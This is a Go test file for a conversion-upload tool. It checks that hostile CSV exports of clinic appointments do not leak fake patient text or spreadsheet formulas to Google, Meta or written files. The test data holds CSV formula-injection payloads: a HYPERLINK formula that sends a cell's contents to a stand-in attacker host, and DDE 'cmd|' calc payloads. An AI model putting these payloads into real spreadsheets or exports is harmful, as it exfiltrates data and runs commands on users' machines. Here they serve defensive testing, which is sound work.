package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hashgate/hashgate/internal/csvcell"
)

// hostileExport is an export whose plain-text cells — the ones that leave
// unhashed: click ids, Google's postal code — hold patient text and
// spreadsheet formulas, as a careless or hostile export would. Every row
// also has a valid e-mail, so each still becomes a conversion.
func hostileExport(t *testing.T) (path string, canaries []string) {
	t.Helper()
	rows := []struct{ gclid, gbraid, postal string }{
		{"Patient Mary Wang, implant, chart 13", "", "10617"},
		{`=HYPERLINK("http://zqevil.example/?"&A1,"open")`, "", "10617"},
		{"", `-2+3+cmd|' /C calc'!A0`, "10617"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "", "10617"},
		{"", "", "=1+2 台北市信義路 王大明"},
		{"", "", "10617 Zqhouse Lane"},
		{"+Zqplusgclid", "", "+10617"},
		{"-Cj0KCQiARfD5XPsKdiGoW3GChn1YXOHpqhXynSjiX3GrE1gk0yXnvyDm32LL4tM3zHZezAM6YVDwsWqtY4EIRZMGY0PS", "", "10617"},
		{"EAIaIQobChMIZuApCOGIMIWgmo0qpGdpkAefHPomDoON4qWU9k1ytRz", "", "10617"},
		{"Cj0KCQzq\tTabbedgclid", "", "106\t17"},
		// issue 22: shaped from the click-id alphabet, but text, a health
		// term between random characters, and the row's own family name.
		{"CANARY-NAME-4-chart-CANARYCHART0004-implant", "", "10617"},
		{"Cj0KCQiARfD5XPsKdiGoW3GChn1YXImplantOHpqhXynSjiX3GrE1gk0yXnvyDm", "", "10617"},
		{"Cj0KCQiARfD5XPsKdiGoW3GChn1YXzqfamily12OHpqhXynSjiX3GrE1gk0yXn", "", "10617"},
	}
	var b strings.Builder
	// The fbclid column repeats the gclid cells: Meta's fbc is the other
	// plain-text click id that leaves (issue 27 point 5).
	b.WriteString("id,at,status,email,phone,first,last,consent,gclid,gbraid,zip,country,fbclid\n")
	w := csv.NewWriter(&b)
	for i, r := range rows {
		w.Write([]string{fmt.Sprintf("H%03d", i), "2026-11-20 10:00", "completed", fmt.Sprintf("zqhostile%d@example.com", i),
			"", fmt.Sprintf("Zqgiven%d", i), fmt.Sprintf("Zqfamily%d", i), "yes", r.gclid, r.gbraid, r.postal, "TW", r.gclid})
	}
	w.Flush()
	path = filepath.Join(t.TempDir(), "hostile.csv")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	canaries = []string{"mary wang", "implant", "chart 13", "hyperlink", "zqevil", "cmd|", "calc", "@sum", "王大明", "信義路",
		"=1+2", "zqhouse", "zqplusgclid", "tabbedgclid", "zqhostile", "zqgiven", "zqfamily", "h003", "canary", "implant"}
	return path, canaries
}

func hostileConfig(t *testing.T, googleURL, graphURL string) string {
	t.Helper()
	body := fmt.Sprintf(`timezone: Asia/Taipei
region: TW
input:
  columns:
    order_id: id
    appointment_at: at
    status: status
    email: email
    phone: phone
    first_name: first
    last_name: last
    consent: consent
    gclid: gclid
    gbraid: gbraid
    postal_code: zip
    country: country
    fbclid: fbclid
consent:
  granted: ["yes"]
conversion:
  statuses: [completed]
  value: fixed
  fixed_value: 1000
  currency: TWD
destinations:
  google:
    enabled: true
    identifiers: [email, phone, first_name, last_name, postal_code, country]
    endpoint: %s
    operating_account: 123-456-7890
    conversion_action_id: "555000111"
    conversion_name: Clinic visit
  meta:
    enabled: true
    identifiers: [email, phone, first_name, last_name, postal_code, country]
    graph_url: %s
    dataset_id: "998877"
`, googleURL, graphURL)
	p := filepath.Join(t.TempDir(), "hostile.yaml")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func assertAbsent(t *testing.T, where string, b []byte, canaries []string) {
	t.Helper()
	low := strings.ToLower(string(b))
	for _, c := range canaries {
		if strings.Contains(low, strings.ToLower(c)) {
			t.Errorf("%s carries %q", where, c)
		}
	}
}

// assertSpreadsheetSafe: no cell of a written CSV starts with "=", "+",
// "-" (unless a number), "@", a tab or a carriage return.
func assertSpreadsheetSafe(t *testing.T, where string, b []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", where, err)
	}
	cells := 0
	for _, rec := range recs {
		for _, c := range rec {
			cells++
			if csvcell.Dangerous(c) {
				t.Errorf("%s: cell %q would start a formula", where, c)
			}
		}
	}
	if cells < 20 {
		t.Fatalf("%s: only %d cells written", where, cells)
	}
}

// TestPlainCellsNeverLeaveAsTyped: canaries planted in click-id and postal
// cells are absent from the review CSV, both manual-upload files, both
// platforms' request bodies, the summary and the run report; no written
// cell can start a formula; and every dropped value is counted.
func TestPlainCellsNeverLeaveAsTyped(t *testing.T) {
	export, canaries := hostileExport(t)
	dm, gURL := googleFake(t, nil)
	g, mURL := metaFake(t, nil)
	cfg := hostileConfig(t, gURL, mURL)
	env := googleEnv(t)
	dir := t.TempDir()

	review := filepath.Join(dir, "review.csv")
	r := runGoogle(t, env, "", true, "upload", "--dry-run", "--out", review, "--config", cfg, export)
	if r.code != ExitOK {
		t.Fatalf("dry-run: exit %d\n%s", r.code, r.stderr)
	}
	b, _ := os.ReadFile(review)
	assertAbsent(t, "review CSV", b, canaries)
	assertAbsent(t, "dry-run stderr", []byte(r.stderr), canaries)
	assertSpreadsheetSafe(t, "review CSV", b)
	if !strings.Contains(string(b), "'-Cj0KCQiARfD5XPsKdiGoW3GChn1YXOHpqhXynSjiX3GrE1gk0yXnvyDm32LL4tM3zHZezAM6YVDwsWqtY4EIRZMGY0PS") || !strings.Contains(string(b), "EAIaIQobChMIZuApCOGIMIWgmo0qpGdpkAefHPomDoON4qWU9k1ytRz") {
		t.Errorf("valid click ids are missing from the review CSV:\n%s", b)
	}
	for _, want := range []string{"gclid click_id_invalid", "gbraid click_id_invalid", "postal_code postal_code_invalid",
		"gclid click_id_not_random", "gclid click_id_health_term", "gclid click_id_row_value"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("summary does not count %q:\n%s", want, r.stderr)
		}
	}

	for _, format := range []string{"google-ads-csv", "meta-offline-csv"} {
		out := filepath.Join(dir, format+".csv")
		r := runGoogle(t, env, "", true, "write", "--format", format, "--out", out, "--config", cfg, export)
		if r.code != ExitOK {
			t.Fatalf("%s: exit %d\n%s", format, r.code, r.stderr)
		}
		b, _ := os.ReadFile(out)
		assertAbsent(t, format, b, canaries)
		assertAbsent(t, format+" stderr", []byte(r.stderr), canaries)
		assertSpreadsheetSafe(t, format, b)
		if format == "google-ads-csv" {
			if strings.Contains(string(b), "Cj0KCQiARfD5XPsKdiGoW3GChn1YXOHpqhXynSjiX3GrE1gk0yXnvyDm32LL4tM3zHZezAM6YVDwsWqtY4EIRZMGY0PS") || !strings.Contains(r.stderr, "csv_formula_prefix") {
				t.Errorf("a click id starting with - must be refused in Google's file and counted:\n%s\n%s", b, r.stderr)
			}
		}
	}

	rep := filepath.Join(dir, "report.json")
	r = runGoogle(t, env, "", true, "upload", "--report", rep, "--config", cfg, export)
	if r.code != ExitOK {
		t.Fatalf("upload: exit %d\n%s", r.code, r.stderr)
	}
	// 12 of the 13 rows: the postal cell =1+2 台北市信義路 王大明 is a
	// spreadsheet formula, not text — its row is excluded as formula_cell
	// (before, Meta was sent its hash). The click ids' formulas are left
	// to their grammar: those rows go without them.
	if len(dm.Accepted()) != 12 || len(g.Accepted()) != 12 || !strings.Contains(r.stderr, "formula_cell 1") {
		t.Fatalf("accepted: google %d, meta %d, want 12 and one formula_cell\n%s", len(dm.Accepted()), len(g.Accepted()), r.stderr)
	}
	for i, req := range dm.Sent() {
		assertAbsent(t, fmt.Sprintf("Data Manager request %d", i), []byte(req), canaries)
	}
	for i, req := range g.Sent() {
		assertAbsent(t, fmt.Sprintf("Conversions API request %d", i), []byte(req), canaries)
	}
	rb, _ := os.ReadFile(rep)
	assertAbsent(t, "run report", rb, canaries)
	assertAbsent(t, "upload stdout+stderr", []byte(r.stdout+r.stderr), canaries)
	if !bytes.Contains(rb, []byte(`"google gclid click_id_invalid"`)) {
		t.Errorf("the report does not count dropped click ids:\n%s", rb)
	}
	// The valid click id and postal code did travel.
	sent := bytes.Join(dm.Bodies(), nil)
	if !bytes.Contains(sent, []byte("EAIaIQobChMIZuApCOGIMIWgmo0qpGdpkAefHPomDoON4qWU9k1ytRz")) || !bytes.Contains(sent, []byte(`"10617"`)) {
		t.Errorf("valid plain values were not sent")
	}
	if !bytes.Contains(bytes.Join(g.Bodies(), nil), []byte(".EAIaIQobChMIZuApCOGIMIWgmo0qpGdpkAefHPomDoON4qWU9k1ytRz")) {
		t.Errorf("the valid fbclid did not travel to Meta as fbc")
	}
	_ = http.DefaultClient
}
